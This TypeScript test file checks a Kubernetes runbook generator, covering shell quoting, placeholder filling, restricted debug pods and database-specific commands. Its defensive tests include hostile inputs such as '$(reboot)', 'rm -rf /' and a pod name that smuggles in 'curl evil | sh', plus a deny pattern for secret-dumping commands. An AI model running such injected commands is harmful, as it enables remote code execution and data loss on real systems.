import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { HEALTH_RULES } from '../health/rules';
import { RUNBOOK_KEYS } from './keys';
import { resolveRunbook } from './resolveRunbook';
import { runbookContext } from './runbookContext';
import { quoteShell } from './shell';
import type { ComponentName } from '../contract';
import { RUNBOOK_DATABASES, type RunbookFact } from './types';

const context = { environment: 'payments', namespace: 'payments-elsa' };

function commandsOf(key: string, extra = {}): string[] {
  return (resolveRunbook(key, { ...context, ...extra })?.steps ?? []).flatMap(
    ({ command }) => command ?? [],
  );
}

/** What a real shell makes of a command: its words. */
function wordsOf(command: string): string[] {
  return execFileSync('sh', ['-c', `printf '%s\\0' ${command}`], {
    encoding: 'utf8',
  })
    .split('\0')
    .slice(0, -1);
}

describe('quoteShell', () => {
  it('should give one word to a real shell, whatever the value', () => {
    const hostile = [
      "it's",
      '$(reboot)',
      '`id`',
      'a b',
      '*',
      '~',
      '"',
      '\\',
      '!x',
      ';ls',
      '',
      '-rf',
      'ä€🚦',
    ];
    expect(wordsOf(hostile.map(quoteShell).join(' '))).toEqual(hostile);
  });

  it('should quote every printable string so that the shell gives it back', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), value => {
        expect(wordsOf(quoteShell(value))).toEqual([value]);
      }),
      // Each run starts a shell.
      { numRuns: 50 },
    );
  });

  it('should take out what a terminal would act upon', () => {
    expect(quoteShell('pod\nrm -rf /\u001b[2J')).toBe("'podrm -rf /[2J'");
  });
});

describe('resolveRunbook', () => {
  it.each(RUNBOOK_KEYS)('should have a complete entry for %s', key => {
    for (const databaseKind of RUNBOOK_DATABASES) {
      const entry = resolveRunbook(key, { ...context, databaseKind });
      expect(entry?.id).toBe(key);
      expect(entry?.meaning.length).toBeGreaterThan(40);
      expect(entry?.steps.length).toBeGreaterThan(1);
      for (const step of entry?.steps ?? []) {
        expect(step.text.trim()).toMatch(/[.!?]$/);
      }
    }
  });

  it.each(RUNBOOK_KEYS)(
    'should fill every name of %s and print no secret',
    key => {
      const commands = commandsOf(key, {
        kind: 'Certificate',
        name: 'payments-tls',
        pod: 'payments-server-1',
        claim: 'data-payments-postgresql-0',
        host: 'elsa.example.com',
      });
      for (const command of commands) {
        expect(command).not.toMatch(/<[a-z]+>/i);
        // Words of our own in braces would be forgotten placeholders.
        expect(command).not.toMatch(/\{[a-zA-Z]+\}/);
        expect(command).not.toMatch(
          /get secrets? [^-]|-o(utput)?[= ](yaml|json\b)|base64|\.data\b|printenv/,
        );
      }
    },
  );

  it("should use this environment's real names", () => {
    expect(
      commandsOf('crash-loop', { pod: 'payments-server-7d9-x2' }),
    ).toContain(
      'kubectl --namespace=payments-elsa logs pod/payments-server-7d9-x2 --container=server --previous --tail=200',
    );
    expect(
      commandsOf('service-unreachable', { server: 'pay-1a2b3c-server' }),
    ).toContain(
      'kubectl --namespace=payments-elsa get endpointslices --selector=kubernetes.io/service-name=pay-1a2b3c-server',
    );
  });

  it('should grow a full volume in place, and name the StatefulSet of its claim', () => {
    const claim = 'data-payments-redis-0';
    const entry = resolveRunbook('volume-full', { ...context, claim });
    const words = entry?.steps.map(({ text }) => text).join(' ');
    expect(words).toContain('The claim grows in place');
    expect(words).not.toContain('expand the claim as well');
    expect(commandsOf('volume-full', { claim })).toContainEqual(
      expect.stringContaining(
        'delete statefulset/payments-redis --cascade=orphan',
      ),
    );
  });

  it('should leave what nobody knows to the reader, quoted', () => {
    expect(commandsOf('crash-loop')[0]).toContain("'pod/<pod>'");
  });

  it('should keep hostile names inside one word', () => {
    const [command] = commandsOf('crash-loop', {
      pod: "x'; curl evil | sh; '",
      container: '$(id)',
    });
    const words = wordsOf(command);
    expect(words).toContain("pod/x'; curl evil | sh; '");
    expect(words).toContain('--container=$(id)');
    expect(words).toHaveLength(7);
  });

  it('should look for locks in pg_locks, as there is no lock table', () => {
    const commands = commandsOf('locks').join('\n');
    expect(commands).toContain("locktype = '\\''advisory'\\''");
    expect(commands).not.toContain('distributed_locks');
  });

  it('should run no dotnet ef and read no deprecated endpoints', () => {
    const all = RUNBOOK_KEYS.flatMap(key => commandsOf(key)).join('\n');
    expect(all).not.toContain('dotnet ef');
    expect(all).not.toMatch(/get endpoints\b/);
  });

  it('should ask each database in its own way', () => {
    const of = (databaseKind: string) =>
      commandsOf('pool-exhaustion', { databaseKind }).join('\n');
    expect(of('postgresql')).toContain('statefulset/payments-postgresql');
    expect(of('cloudnative-pg')).toContain(
      'kubectl cnpg psql payments-postgresql --namespace=payments-elsa --',
    );
    expect(of('mysql')).toContain('statefulset/payments-mysql');
    expect(of('external')).not.toContain('psql');
  });

  it('should leave out steps for what an environment does not use', () => {
    const of = (key: string, facts?: RunbookFact[]) =>
      commandsOf(key, { facts, host: 'elsa.example.com' }).join('\n');
    expect(of('certificate')).toContain('certificate.cert-manager.io');
    expect(of('certificate', [])).not.toContain('cert-manager');
    expect(of('certificate', [])).toContain('https://elsa.example.com/');
    expect(of('locks', ['redis-locks'])).toContain(
      'statefulset/payments-redis',
    );
    expect(of('locks', ['redis-locks'])).not.toContain('pg_locks');
    expect(of('locks', ['postgresql-locks'])).not.toContain('redis');
    expect(of('container-config', [])).not.toContain('externalsecrets');
  });

  const startedBy = (verb: string) =>
    RUNBOOK_KEYS.flatMap(key => commandsOf(key))
      .filter(command => command.includes(` ${verb} `))
      .map(wordsOf);

  it('should debug only as a restricted namespace admits', () => {
    const commands = startedBy('debug');
    expect(commands.length).toBeGreaterThan(0);
    for (const words of commands) {
      expect(words).toContain('--profile=restricted');
    }
  });

  it('should run only pods that a restricted namespace admits', () => {
    const commands = startedBy('run');
    expect(commands.length).toBeGreaterThan(0);
    for (const words of commands) {
      const overrides = words.find(word => word.startsWith('--overrides='));
      const { spec } = JSON.parse(overrides?.replace('--overrides=', '') ?? '');
      expect(spec.securityContext).toMatchObject({
        runAsNonRoot: true,
        seccompProfile: { type: 'RuntimeDefault' },
      });
      expect(spec.containers[0]).toMatchObject({
        name: 'dns-check',
        securityContext: {
          allowPrivilegeEscalation: false,
          capabilities: { drop: ['ALL'] },
        },
      });
      // So that the environment's network policies count for it.
      expect(words).toContain(
        '--labels=app.kubernetes.io/instance=payments,app.kubernetes.io/part-of=elsa-workflows',
      );
    }
  });

  it('should give nothing for an unknown key', () => {
    expect(resolveRunbook('no-such-entry', context)).toBeUndefined();
    expect(resolveRunbook('__proto__', context)).toBeUndefined();
  });
});

describe('runbookContext', () => {
  it('should take names from the status and the reason', () => {
    const found = runbookContext(
      {
        name: 'payments',
        namespace: 'payments-elsa',
        components: [
          {
            name: 'database',
            isCritical: true,
            health: 'Healthy',
            images: [],
            pods: [],
            workload: {
              apiVersion: 'postgresql.cnpg.io/v1',
              kind: 'Cluster',
              name: 'payments-postgresql',
            },
          },
        ],
        links: [
          { kind: 'server', title: 'Server', url: 'https://elsa.example.com/' },
        ],
        certificates: [],
        argoCd: {
          application: 'payments',
          namespace: 'gitops',
          conditions: [],
          outOfSync: [],
        },
      },
      {
        component: 'server',
        evidence: {
          object: { apiVersion: 'v1', kind: 'Pod', name: 'payments-server-0' },
          field: 'status',
          container: 'migrate',
        },
      },
    );
    expect(found).toMatchObject({
      pod: 'payments-server-0',
      container: 'migrate',
      database: 'payments-postgresql',
      databaseKind: 'cloudnative-pg',
      host: 'elsa.example.com',
      application: 'payments',
      applicationNamespace: 'gitops',
    });
  });
});

describe('a full volume in the tab', () => {
  const component = (name: ComponentName, kind: string) => ({
    name,
    isCritical: false,
    health: 'Healthy' as const,
    images: [],
    pods: [],
    workload: { apiVersion: 'apps/v1', kind, name: `payments-${name}` },
  });
  const commands = (...components: ReturnType<typeof component>[]) =>
    commandsOf(
      'volume-full',
      runbookContext({
        name: 'payments',
        namespace: 'payments-elsa',
        components,
        links: [],
        certificates: [],
      }),
    )
      .filter(command => command.includes('--cascade=orphan'))
      .map(command => /statefulset\/([a-z-]+)/.exec(command)?.[1]);

  it('should name the StatefulSets that there are, and no others', () => {
    const database = component('database', 'StatefulSet');
    expect(commands(database)).toEqual(['payments-database']);
    expect(commands(database, component('redis', 'StatefulSet'))).toEqual([
      'payments-database',
      'payments-redis',
    ]);
    expect(commands(component('server', 'Deployment'))).toEqual([]);
    expect(
      commands(
        component('database', 'Cluster'),
        component('rabbitmq', 'RabbitmqCluster'),
      ),
    ).toEqual([]);
  });

  it('should name all where nobody knows what there is', () => {
    expect(commands()).toHaveLength(3);
  });
});

describe('health rules', () => {
  it('should name only entries that exist', () => {
    for (const rule of HEALTH_RULES.values()) {
      const { runbook } = rule({});
      expect(resolveRunbook(runbook, context)?.id).toBe(runbook);
    }
  });
});
